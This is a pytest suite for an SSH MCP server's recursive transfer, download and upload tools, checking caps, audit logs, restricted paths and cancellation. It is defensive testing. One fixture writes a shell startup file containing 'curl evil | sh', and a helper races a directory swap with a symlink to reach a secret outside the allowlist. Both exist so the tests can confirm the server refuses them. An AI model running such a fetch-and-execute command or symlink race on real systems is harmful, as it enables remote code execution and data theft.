"""Directories as trees (recursive=true): ssh_transfer host to host and ssh_sftp_download to
local_path, through MCP against real sshd, outcomes asserted on disk and in the audit log."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import anyio
import pytest
from harness import Target, assert_audit, gone, hosts_toml, serve, text, wait_for_audit
from sshd import TestUser

from ssh_mcp.config.settings import Settings

pytestmark = pytest.mark.anyio
MiB = 1024 * 1024


def _chown_tree(root: Path, user: TestUser) -> None:
    for p in [root, *root.rglob("*")]:
        os.lchown(p, user.uid, user.uid)


def _make_tree(root: Path, user: TestUser) -> dict[str, bytes]:
    """A small tree: nested dirs, an empty file, a 2 MiB file, a symlink and a fifo."""
    files = {
        "a.txt": b"alpha\n",
        "empty": b"",
        "sub/b.bin": os.urandom(2 * MiB),
        "sub/deeper/c.txt": b"gamma\n" * 100,
    }
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    (root / "sub" / "b.bin").chmod(0o640)
    (root / "link").symlink_to("/etc/hostname")
    os.mkfifo(root / "fifo")
    _chown_tree(root, user)
    (root / "sub" / "deeper" / "c.txt").chmod(0o4755)  # setuid (after chown clears it)
    return files


def _files(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink()
    }


def _temps(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if ".ssh-mcp-" in p.name]


class Reports:
    def __init__(self) -> None:
        self.seen: list[tuple[float, float | None, str | None]] = []

    async def __call__(self, progress: float, total: float | None, message: str | None) -> None:
        self.seen.append((progress, total, message))


@pytest.fixture
def roots(tmp_path: Path) -> Path:
    root = tmp_path / "dl"
    root.mkdir()
    return root


@pytest.fixture
def two_hosts(settings_for: Callable[..., Settings], target: Target) -> Callable[..., Settings]:
    other = Target("other", target.port, target.user, target.key, target.path_allowlist)

    def make(**overrides: object) -> Settings:
        return settings_for(
            hosts=hosts_toml(target, other), allow_low_access_tools=True, **overrides
        )

    return make


async def test_transfer_copies_a_tree_between_hosts(
    two_hosts: Callable[..., Settings], work_dir: Path, test_user: TestUser
) -> None:
    src, dst = work_dir / "tree", work_dir / "copy"
    src.mkdir()
    files = _make_tree(src, test_user)
    reports = Reports()
    args = {"src_host": "target", "src_path": str(src), "dst_host": "other",
            "dst_path": str(dst), "recursive": True}  # fmt: skip
    async with serve(two_hosts()) as (client, app):
        r = await client.call_tool("ssh_transfer", args, progress_callback=reports)
        assert not r.is_error, text(r)
        size = sum(len(d) for d in files.values())
        assert r.structured_content == {
            "path": str(dst), "size": size, "mode": "0755", "sha256": "", "files": 4,
        }  # fmt: skip
        assert _files(dst) == files
        assert (dst / "link").is_symlink() and os.readlink(dst / "link") == "/etc/hostname"
        assert (dst / "fifo").is_fifo()  # as ssh_cp: tar recreates fifos, never their data
        assert (dst / "sub" / "b.bin").stat().st_mode & 0o777 == 0o640
        assert (dst / "sub" / "deeper" / "c.txt").stat().st_mode & 0o7777 == 0o755
        assert (dst / "a.txt").stat().st_uid == test_user.uid
        assert_audit(
            app,
            {"tool": "ssh_transfer", "outcome": "ok", "host": "target", "dst_host": "other",
             "bytes": size, "dst_path_hash": app.audit.digest(str(dst))},
        )  # fmt: skip
        # Never merges or replaces.
        r = await client.call_tool("ssh_transfer", args)
        assert r.is_error and "never merges or replaces" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_transfer", "outcome": "error"})
        inside = {**args, "dst_host": "target", "dst_path": str(src / "in")}
        r = await client.call_tool("ssh_transfer", inside)
        assert r.is_error and "inside" in text(r), text(r)
        # One host on both ends: two channels of one connection.
        same = {**args, "dst_host": "target", "dst_path": str(work_dir / "copy2")}
        r = await client.call_tool("ssh_transfer", same)
        assert not r.is_error, text(r)
        assert _files(work_dir / "copy2") == files
    assert reports.seen and reports.seen[-1][0] == size
    assert any("4 files" in (m or "") for _, _, m in reports.seen), reports.seen
    assert _temps(work_dir) == []


async def test_download_tree_to_local_path(
    settings_for: Callable[..., Settings], work_dir: Path, test_user: TestUser, roots: Path
) -> None:
    src = work_dir / "tree"
    src.mkdir()
    files = _make_tree(src, test_user)
    dest = roots / "got"
    reports = Reports()
    args = {"host": "target", "path": str(src), "local_path": str(dest), "recursive": True}
    async with serve(settings_for(ssh_local_transfer_roots=[str(roots)])) as (client, app):
        r = await client.call_tool("ssh_sftp_download", args, progress_callback=reports)
        assert not r.is_error, text(r)
        size = sum(len(d) for d in files.values())
        sc = r.structured_content or {}
        assert (sc["size"], sc["files"], sc["local_path"]) == (size, 4, str(dest))
        assert _files(dest) == files
        assert not (dest / "link").exists() and not (dest / "fifo").exists()
        assert all(p.stat().st_mode & 0o777 == 0o600 for p in dest.rglob("*") if p.is_file())
        assert all(p.stat().st_mode & 0o777 == 0o700 for p in dest.rglob("*") if p.is_dir())
        assert_audit(
            app,
            {"tool": "ssh_sftp_download", "outcome": "ok", "bytes": size,
             "path_hash": app.audit.digest(str(src))},
        )  # fmt: skip
        r = await client.call_tool("ssh_sftp_download", args)
        assert r.is_error and "never merges or replaces" in text(r), text(r)
        r = await client.call_tool("ssh_sftp_download", {**args, "local_path": None})
        assert r.is_error and "recursive needs local_path" in text(r), text(r)
    assert reports.seen and reports.seen[-1][0] == size
    assert _temps(roots) == []


async def test_tree_caps_refuse_before_anything_moves(
    two_hosts: Callable[..., Settings], work_dir: Path, test_user: TestUser, roots: Path
) -> None:
    src = work_dir / "tree"
    src.mkdir()
    _make_tree(src, test_user)
    args = {"src_host": "target", "src_path": str(src), "dst_host": "other",
            "dst_path": str(work_dir / "copy"), "recursive": True}  # fmt: skip
    few = two_hosts(ssh_transfer_max_entries=3, ssh_local_transfer_roots=[str(roots)])
    async with serve(few) as (client, app):
        r = await client.call_tool("ssh_transfer", args)
        assert r.is_error and "SSH_TRANSFER_MAX_ENTRIES" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_transfer", "outcome": "error", "error": "CapExceeded"})
        dl = {"host": "target", "path": str(src), "local_path": str(roots / "x"),
              "recursive": True}  # fmt: skip
        r = await client.call_tool("ssh_sftp_download", dl)
        assert r.is_error and "SSH_TRANSFER_MAX_ENTRIES" in text(r), text(r)
        local = roots / "tree"
        shutil.copytree(src, local, symlinks=True, ignore=lambda d, names: ["fifo"])
        up = {"host": "target", "path": str(work_dir / "up"), "local_path": str(local),
              "recursive": True}  # fmt: skip
        r = await client.call_tool("ssh_upload", up)
        assert r.is_error and "SSH_TRANSFER_MAX_ENTRIES" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_upload", "outcome": "error", "error": "CapExceeded"})
    small = two_hosts(ssh_transfer_max_bytes=MiB, ssh_local_transfer_roots=[str(roots)])
    async with serve(small) as (client, app):
        r = await client.call_tool("ssh_transfer", args)
        assert r.is_error and "SSH_TRANSFER_MAX_BYTES" in text(r), text(r)
        r = await client.call_tool("ssh_upload", up)
        assert r.is_error and "SSH_TRANSFER_MAX_BYTES" in text(r), text(r)
    assert not (work_dir / "copy").exists() and not (work_dir / "up").exists()
    assert [p.name for p in roots.iterdir()] == ["tree"]
    assert _temps(work_dir) == []


@pytest.fixture
def outside(work_dir: Path, test_user: TestUser) -> Iterator[Path]:
    """A directory outside the allowlist (the work root) but on its filesystem, holding a
    secret the test user can read."""
    out = work_dir.parent.parent / f"outside-{work_dir.parent.name}"
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir()
    (out / "secret.txt").write_bytes(b"OUTSIDE-SECRET\n")
    _chown_tree(out, test_user)
    yield out
    shutil.rmtree(out, ignore_errors=True)


def _clean_refusal(message: str) -> bool:
    """One line that says nothing landed or why the walk stopped; never a traceback."""
    words = ("nothing landed", "nothing was sent", "swapped", "changed", "vanished", "failed")
    return "\n" not in message and "Traceback" not in message and any(w in message for w in words)


def _swapper(victim: Path, outside: Path, stop: threading.Event) -> threading.Thread:
    """Swap ``victim`` (a directory) for a symlink to ``outside`` and back, until stopped."""
    held = victim.with_name(victim.name + ".held")

    def loop() -> None:
        while not stop.is_set():
            os.rename(victim, held)
            os.symlink(outside, victim)
            os.unlink(victim)
            os.rename(held, victim)

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    return t


async def test_a_directory_swapped_for_a_symlink_mid_walk_is_never_followed(
    two_hosts: Callable[..., Settings],
    work_dir: Path,
    test_user: TestUser,
    roots: Path,
    outside: Path,
) -> None:
    src = work_dir / "tree"
    for i in range(40):
        d = src / f"d{i:02}"
        d.mkdir(parents=True)
        (d / "f.txt").write_bytes(b"inside\n" * 1000)
    _chown_tree(src, test_user)
    settings = two_hosts(ssh_local_transfer_roots=[str(roots)])
    async with serve(settings) as (client, _app):
        for n in range(3):
            stop = threading.Event()
            swapper = _swapper(src / "d20", outside, stop)
            try:
                r = await client.call_tool(
                    "ssh_transfer",
                    {"src_host": "target", "src_path": str(src), "dst_host": "other",
                     "dst_path": str(work_dir / f"copy{n}"), "recursive": True},
                )  # fmt: skip
                r2 = await client.call_tool(
                    "ssh_sftp_download",
                    {"host": "target", "path": str(src), "local_path": str(roots / f"dl{n}"),
                     "recursive": True},
                )  # fmt: skip
            finally:
                stop.set()
                swapper.join()
            for res in (r, r2):  # a walk may also meet the directory gone for a moment
                assert not res.is_error or _clean_refusal(text(res)), text(res)
    landed = [*work_dir.glob("copy*/**/*"), *roots.rglob("*")]
    assert not any(
        p.is_file() and b"OUTSIDE" in p.read_bytes() for p in landed if not p.is_symlink()
    )
    assert (outside / "secret.txt").read_bytes() == b"OUTSIDE-SECRET\n"
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert _temps(work_dir) == [] and _temps(roots) == []


async def test_upload_tree_from_local_path(
    settings_for: Callable[..., Settings],
    work_dir: Path,
    test_user: TestUser,
    roots: Path,
    known_hosts_file: Path,
) -> None:
    src = roots / "tree"
    src.mkdir()
    files = _make_tree(src, test_user)
    dst = work_dir / "up"
    reports = Reports()
    args = {"host": "target", "path": str(dst), "local_path": str(src), "recursive": True}
    settings = settings_for(allow_low_access_tools=True, ssh_local_transfer_roots=[str(roots)])
    async with serve(settings) as (client, app):
        r = await client.call_tool("ssh_upload", args, progress_callback=reports)
        assert not r.is_error, text(r)
        size = sum(len(d) for d in files.values())
        assert r.structured_content == {"path": str(dst), "size": size, "mode": "0755",
                                        "sha256": ""}  # fmt: skip
        assert _files(dst) == files
        assert os.readlink(dst / "link") == "/etc/hostname" and not (dst / "fifo").exists()
        assert (dst / "sub" / "b.bin").stat().st_mode & 0o777 == 0o640
        assert (dst / "sub" / "deeper" / "c.txt").stat().st_mode & 0o7777 == 0o755
        assert (dst / "a.txt").stat().st_uid == test_user.uid
        assert_audit(
            app,
            {"tool": "ssh_upload", "outcome": "ok", "bytes": size,
             "path_hash": app.audit.digest(str(dst)), "local_path_hash":
             app.audit.digest(str(src))},
        )  # fmt: skip
        r = await client.call_tool("ssh_upload", args)
        assert r.is_error and "never merges or replaces" in text(r), text(r)
        r = await client.call_tool("ssh_upload", {**args, "overwrite": True})
        assert r.is_error and "a tree never replaces" in text(r), text(r)
        # A hard link to one of the server's own files inside the tree stops the upload.
        keys = roots / "keys"
        keys.mkdir()
        (keys / "ok.txt").write_bytes(b"fine\n")
        os.link(known_hosts_file, keys / "kh")
        r = await client.call_tool(
            "ssh_upload", {**args, "local_path": str(keys), "path": str(work_dir / "keys")}
        )
        assert r.is_error and "server's own file" in text(r) and "kh" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_upload", "outcome": "denied", "error": "PathNotAllowed"})
    assert not (work_dir / "keys").exists()
    assert reports.seen and reports.seen[-1][0] == size
    assert _temps(work_dir) == []


async def test_upload_never_follows_a_local_directory_swapped_for_a_symlink(
    settings_for: Callable[..., Settings], work_dir: Path, roots: Path, tmp_path: Path
) -> None:
    out = tmp_path / "outside-local"  # outside the roots, on their filesystem
    out.mkdir()
    (out / "secret.txt").write_bytes(b"OUTSIDE-SECRET\n")
    src = roots / "tree"
    for i in range(40):
        (src / f"d{i:02}").mkdir(parents=True)
        (src / f"d{i:02}" / "f.txt").write_bytes(b"inside\n" * 1000)
    settings = settings_for(allow_low_access_tools=True, ssh_local_transfer_roots=[str(roots)])
    async with serve(settings) as (client, _app):
        for n in range(3):
            stop = threading.Event()
            swapper = _swapper(src / "d20", out, stop)
            try:
                r = await client.call_tool(
                    "ssh_upload",
                    {"host": "target", "path": str(work_dir / f"up{n}"),
                     "local_path": str(src), "recursive": True},
                )  # fmt: skip
            finally:
                stop.set()
                swapper.join()
            assert not r.is_error or _clean_refusal(text(r)), text(r)
    landed = [p for p in work_dir.rglob("*") if p.is_file() and not p.is_symlink()]
    assert landed and not any(b"OUTSIDE" in p.read_bytes() for p in landed)
    assert _temps(work_dir) == []


async def test_a_tree_never_lands_over_a_restricted_zone(
    settings_for: Callable[..., Settings],
    target: Target,
    work_dir: Path,
    test_user: TestUser,
    roots: Path,
) -> None:
    """A zone below a path that does not exist yet: a tree landing there would fill it."""
    src = roots / "tree"
    (src / "secret").mkdir(parents=True)
    (src / "secret" / "x.txt").write_bytes(b"x\n")
    dst = work_dir / "up"
    settings = settings_for(
        allow_low_access_tools=True,
        ssh_local_transfer_roots=[str(roots)],
        ssh_restricted_paths=[str(dst / "secret")],
    )
    async with serve(settings) as (client, app):
        args = {"host": "target", "path": str(dst), "local_path": str(src), "recursive": True}
        r = await client.call_tool("ssh_upload", args)
        assert r.is_error and "restricted" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_upload", "outcome": "denied", "error": "PathNotAllowed"})
    assert not dst.exists() and _temps(work_dir) == []


async def test_download_tree_refusals_leave_nothing(
    two_hosts: Callable[..., Settings], work_dir: Path, test_user: TestUser, roots: Path
) -> None:
    src = work_dir / "home-copy"
    (src / "zone").mkdir(parents=True)
    (src / "zone" / "k").write_bytes(b"key\n")
    (src / "a.txt").write_bytes(b"a\n")
    _chown_tree(src, test_user)
    dl = {"host": "target", "path": str(src), "local_path": str(roots / "got"), "recursive": True}
    # A tree holding a restricted zone is refused before anything moves.
    zoned = two_hosts(
        ssh_local_transfer_roots=[str(roots)], ssh_restricted_paths=[str(src / "zone")]
    )
    async with serve(zoned) as (client, app):
        r = await client.call_tool("ssh_sftp_download", dl)
        assert r.is_error and "restricted" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_sftp_download", "outcome": "denied"})
    # A file the server's own logins run (a shell startup file) is never written here.
    shutil.rmtree(src / "zone")
    (src / "sub").mkdir()
    (src / "sub" / ".bashrc").write_bytes(b"curl evil | sh\n")
    _chown_tree(src, test_user)
    async with serve(two_hosts(ssh_local_transfer_roots=[str(roots)])) as (client, app):
        r = await client.call_tool("ssh_sftp_download", dl)
        assert r.is_error and ".bashrc" in text(r) and "nothing written" in text(r), text(r)
        assert_audit(app, {"tool": "ssh_sftp_download", "outcome": "denied"})
    assert list(roots.iterdir()) == []


def _sparse_tree(root: Path, user: TestUser, files: int = 3, size: int = 100 * MiB) -> None:
    root.mkdir()
    for i in range(files):
        with open(root / f"f{i}", "wb") as f:
            f.truncate(size)
    _chown_tree(root, user)


async def test_cancel_mid_tree_leaves_no_temp_and_no_process(
    settings_for: Callable[..., Settings], work_dir: Path, test_user: TestUser, roots: Path
) -> None:
    remote_src, local_src = work_dir / "big", roots / "big"
    _sparse_tree(remote_src, test_user)
    _sparse_tree(local_src, test_user)
    settings = settings_for(allow_low_access_tools=True, ssh_local_transfer_roots=[str(roots)])
    calls = [
        ("ssh_sftp_download", {"host": "target", "path": str(remote_src),
                               "local_path": str(roots / "got"), "recursive": True}),
        ("ssh_upload", {"host": "target", "path": str(work_dir / "up"),
                        "local_path": str(local_src), "recursive": True}),
    ]  # fmt: skip
    async with serve(settings) as (client, app):
        for n, (tool, args) in enumerate(calls, start=1):
            with anyio.CancelScope() as scope:

                async def cancel_on_progress(
                    progress: float, total: float | None, message: str | None
                ) -> None:
                    assert total == 300 * MiB and progress < total, (progress, total)
                    if progress >= 20 * MiB:  # the destination is well under way
                        scope.cancel()  # mid-transfer, not after a guessed delay

                await client.call_tool(tool, args, progress_callback=cancel_on_progress)
            assert scope.cancelled_caught
            line = await wait_for_audit(app, n)
            assert line["tool"] == tool and line["error"] == "Cancelled", line
            assert await gone(test_user.name, "tar ")
    assert not (roots / "got").exists() and not (work_dir / "up").exists()
    assert _temps(roots) == [] and _temps(work_dir) == []
